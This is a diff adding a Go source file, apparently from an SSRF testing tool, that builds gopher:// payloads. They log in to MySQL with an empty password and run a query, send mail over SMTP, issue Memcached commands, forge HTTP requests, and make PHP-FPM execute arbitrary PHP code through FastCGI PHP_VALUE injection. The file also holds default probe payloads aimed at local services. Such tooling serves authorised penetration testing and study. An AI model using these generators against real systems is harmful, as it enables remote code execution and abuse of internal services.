@@ -0,0 +1,228 @@
+package payloads
+
+import (
+	"encoding/binary"
+	"fmt"
+	"strconv"
+	"strings"
+)
+
+// gopherUnreserved gopher路径中不需要编码的字符
+const gopherUnreserved = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~"
+
+// GopherURL 将原始TCP数据封装为gopher URL（gopher://host:port/_<数据>）
+// 除字母数字外的所有字节均使用百分号编码，保证 \r\n、\x00 等字节原样发送
+func GopherURL(host string, port int, data []byte) string {
+	var builder strings.Builder
+	builder.WriteString("gopher://" + URLHost(host) + ":" + strconv.Itoa(port) + "/_")
+	for _, b := range data {
+		if strings.IndexByte(gopherUnreserved, b) != -1 {
+			builder.WriteByte(b)
+			continue
+		}
+		fmt.Fprintf(&builder, "%%%02X", b)
+	}
+	return builder.String()
+}
+
+// GopherHTTP 生成发送自定义方法和请求头的HTTP请求的gopher payload（用于只能发起GET请求的SSRF）
+func GopherHTTP(host string, port int, method, path string, headers [][2]string) string {
+	var builder strings.Builder
+	builder.WriteString(method + " " + path + " HTTP/1.1\r\n")
+	builder.WriteString("Host: " + URLHost(host) + "\r\n")
+	for _, h := range headers {
+		builder.WriteString(h[0] + ": " + h[1] + "\r\n")
+	}
+	builder.WriteString("Connection: close\r\n\r\n")
+	return GopherURL(host, port, []byte(builder.String()))
+}
+
+// MySQL客户端能力标志
+const (
+	mysqlClientLongPassword     = 0x00000001
+	mysqlClientLongFlag         = 0x00000004
+	mysqlClientProtocol41       = 0x00000200
+	mysqlClientTransactions     = 0x00002000
+	mysqlClientSecureConnection = 0x00008000
+	mysqlClientPluginAuth       = 0x00080000
+)
+
+// GopherMySQL 生成无密码登录MySQL并执行查询的gopher payload
+// gopher不会等待服务端握手包，直接依次发送登录包、COM_QUERY 和 COM_QUIT，只适用于空密码账号
+func GopherMySQL(host string, port int, user, query string) string {
+	// 登录包（HandshakeResponse41）
+	var login []byte
+	login = binary.LittleEndian.AppendUint32(login, mysqlClientLongPassword|mysqlClientLongFlag|mysqlClientProtocol41|
+		mysqlClientTransactions|mysqlClientSecureConnection|mysqlClientPluginAuth)
+	login = binary.LittleEndian.AppendUint32(login, 1<<24) // 最大包长度 16MB
+	login = append(login, 0x21)                            // 字符集 utf8_general_ci
+	login = append(login, make([]byte, 23)...)             // 保留字段
+	login = append(login, user...)
+	login = append(login, 0x00)
+	login = append(login, 0x00) // 认证数据长度为0（空密码）
+	login = append(login, "mysql_native_password"...)
+	login = append(login, 0x00)
+
+	// COM_QUERY 和 COM_QUIT（新命令序号从0开始）
+	data := mysqlPacket(1, login)
+	data = append(data, mysqlPacket(0, append([]byte{0x03}, query...))...)
+	data = append(data, mysqlPacket(0, []byte{0x01})...)
+	return GopherURL(host, port, data)
+}
+
+// mysqlPacket 按MySQL协议封包：3字节小端长度 + 1字节序号 + 数据
+func mysqlPacket(seq byte, payload []byte) []byte {
+	n := len(payload)
+	packet := []byte{byte(n), byte(n >> 8), byte(n >> 16), seq}
+	return append(packet, payload...)
+}
+
+// GopherSMTP 生成通过SMTP发送邮件的gopher payload
+func GopherSMTP(host string, port int, from, to, subject, body string) string {
+	var builder strings.Builder
+	lines := []string{
+		"HELO localhost",
+		"MAIL FROM:<" + from + ">",
+		"RCPT TO:<" + to + ">",
+		"DATA",
+		"From: " + from,
+		"To: " + to,
+		"Subject: " + subject,
+		"",
+	}
+	// 正文中以 . 开头的行需要转义，避免提前结束DATA
+	for _, line := range strings.Split(strings.ReplaceAll(body, "\r\n", "\n"), "\n") {
+		if strings.HasPrefix(line, ".") {
+			line = "." + line
+		}
+		lines = append(lines, line)
+	}
+	lines = append(lines, ".", "QUIT")
+
+	for _, line := range lines {
+		builder.WriteString(line + "\r\n")
+	}
+	return GopherURL(host, port, []byte(builder.String()))
+}
+
+// GopherMemcached 生成执行Memcached文本协议命令的gopher payload（例如 stats）
+func GopherMemcached(host string, port int, commands ...string) string {
+	var builder strings.Builder
+	for _, command := range append(commands, "quit") {
+		builder.WriteString(command + "\r\n")
+	}
+	return GopherURL(host, port, []byte(builder.String()))
+}
+
+// FastCGI记录类型和角色
+const (
+	fcgiVersion      = 1
+	fcgiBeginRequest = 1
+	fcgiParams       = 4
+	fcgiStdin        = 5
+	fcgiResponder    = 1
+	fcgiRequestID    = 1
+	fcgiMaxContent   = 65535
+)
+
+// GopherFastCGI 生成请求PHP-FPM执行指定脚本的gopher payload
+// code 不为空时通过 PHP_VALUE 设置 auto_prepend_file=php://input，将 code 作为PHP代码执行
+func GopherFastCGI(host string, port int, scriptFilename, code string) string {
+	method := "GET"
+	if code != "" {
+		method = "POST"
+	}
+	params := [][2]string{
+		{"GATEWAY_INTERFACE", "FastCGI/1.0"},
+		{"REQUEST_METHOD", method},
+		{"SCRIPT_FILENAME", scriptFilename},
+		{"SCRIPT_NAME", scriptFilename},
+		{"DOCUMENT_URI", scriptFilename},
+		{"QUERY_STRING", ""},
+		{"SERVER_SOFTWARE", "go / fcgiclient"},
+		{"REMOTE_ADDR", "127.0.0.1"},
+		{"REMOTE_PORT", "9985"},
+		{"SERVER_ADDR", "127.0.0.1"},
+		{"SERVER_PORT", "80"},
+		{"SERVER_NAME", "localhost"},
+		{"SERVER_PROTOCOL", "HTTP/1.1"},
+	}
+	if code != "" {
+		params = append(params,
+			[2]string{"CONTENT_TYPE", "application/x-www-form-urlencoded"},
+			[2]string{"CONTENT_LENGTH", strconv.Itoa(len(code))},
+			[2]string{"PHP_VALUE", "auto_prepend_file = php://input"},
+			[2]string{"PHP_ADMIN_VALUE", "allow_url_include = On"},
+		)
+	}
+
+	var paramData []byte
+	for _, p := range params {
+		paramData = appendFCGILength(paramData, len(p[0]))
+		paramData = appendFCGILength(paramData, len(p[1]))
+		paramData = append(paramData, p[0]...)
+		paramData = append(paramData, p[1]...)
+	}
+
+	data := fcgiRecord(fcgiBeginRequest, []byte{0, fcgiResponder, 0, 0, 0, 0, 0, 0})
+	data = append(data, fcgiStream(fcgiParams, paramData)...)
+	data = append(data, fcgiStream(fcgiStdin, []byte(code))...)
+	return GopherURL(host, port, data)
+}
+
+// appendFCGILength 按FastCGI名值对格式编码长度：小于128时1字节，否则4字节且最高位为1
+func appendFCGILength(buf []byte, n int) []byte {
+	if n < 128 {
+		return append(buf, byte(n))
+	}
+	return binary.BigEndian.AppendUint32(buf, uint32(n)|1<<31)
+}
+
+// fcgiStream 将数据按最大长度拆分为多个记录，并以空记录结束
+func fcgiStream(recordType byte, content []byte) []byte {
+	var data []byte
+	for len(content) > 0 {
+		n := len(content)
+		if n > fcgiMaxContent {
+			n = fcgiMaxContent
+		}
+		data = append(data, fcgiRecord(recordType, content[:n])...)
+		content = content[n:]
+	}
+	return append(data, fcgiRecord(recordType, nil)...)
+}
+
+// fcgiRecord 封装单个FastCGI记录（8字节头部 + 内容）
+func fcgiRecord(recordType byte, content []byte) []byte {
+	header := []byte{fcgiVersion, recordType, 0, fcgiRequestID, 0, 0, 0, 0}
+	binary.BigEndian.PutUint16(header[4:], uint16(len(content)))
+	return append(header, content...)
+}
+
+// getGopherProbePayloads 获取无副作用的gopher协议探测payload（默认扫描）
+func getGopherProbePayloads() []Payload {
+	return []Payload{
+		{
+			// 服务端握手包中包含认证插件名，无需登录成功即可判定
+			Value:    GopherMySQL("127.0.0.1", 3306, "root", "select @@version"),
+			Type:     "协议探测",
+			Keywords: []string{"mysql_native_password", "caching_sha2_password", "MariaDB"},
+		},
+		{
+			Value:    GopherMemcached("127.0.0.1", 11211, "stats"),
+			Type:     "协议探测",
+			Keywords: []string{"STAT pid", "STAT version", "STAT uptime"},
+		},
+		{
+			// 请求不存在的脚本，PHP-FPM返回特征错误信息，不执行任何代码
+			Value:    GopherFastCGI("127.0.0.1", 9000, "/gossrf-probe.php", ""),
+			Type:     "协议探测",
+			Keywords: []string{"Primary script unknown", "File not found.", "X-Powered-By: PHP"},
+		},
+		{
+			Value:    GopherURL("127.0.0.1", 25, []byte("HELO localhost\r\nQUIT\r\n")),
+			Type:     "协议探测",
+			Keywords: []string{"ESMTP"},
+		},
+	}
+}